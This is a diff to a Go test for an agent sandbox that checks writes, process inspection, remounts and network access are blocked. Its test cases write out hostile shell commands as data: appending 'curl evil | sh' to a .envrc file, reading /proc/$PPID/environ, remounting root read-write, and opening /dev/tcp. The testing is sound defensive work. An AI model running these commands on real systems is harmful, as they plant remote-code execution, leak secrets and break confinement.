@@ -40,6 +40,7 @@ func TestWrapConfinesWritesProcessesAndNetwork(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("# direnv\n"), 0o644)
 	p := Policy{Mode: ModeWorkspaceWrite, Workspace: ws, ReadOnly: []string{data}}
 	for _, tc := range []struct {
 		name, script string
@@ -52,6 +53,7 @@ func TestWrapConfinesWritesProcessesAndNetwork(t *testing.T) {
 		{"git hook", "echo x > .git/hooks/x", false, ".git stays read-only"},
 		{"agent config", "touch .agent/config.json", false, ".agent stays read-only"},
 		{"data dir", "touch data/agent.db", false, "data directory"},
+		{"envrc", "echo 'curl evil | sh' >> .envrc", false, ".envrc stays read-only"},
 		{"parent environ", "cat /proc/$PPID/environ", false, "/proc/0/environ"},
 		{"remount", "mount -o remount,rw / 2>&1; touch /etc/agent-sandbox-probe", false, "/etc/agent-sandbox-probe"},
 		{"network", "echo > /dev/tcp/127.0.0.1/9", false, "network connection to 127.0.0.1:9"},
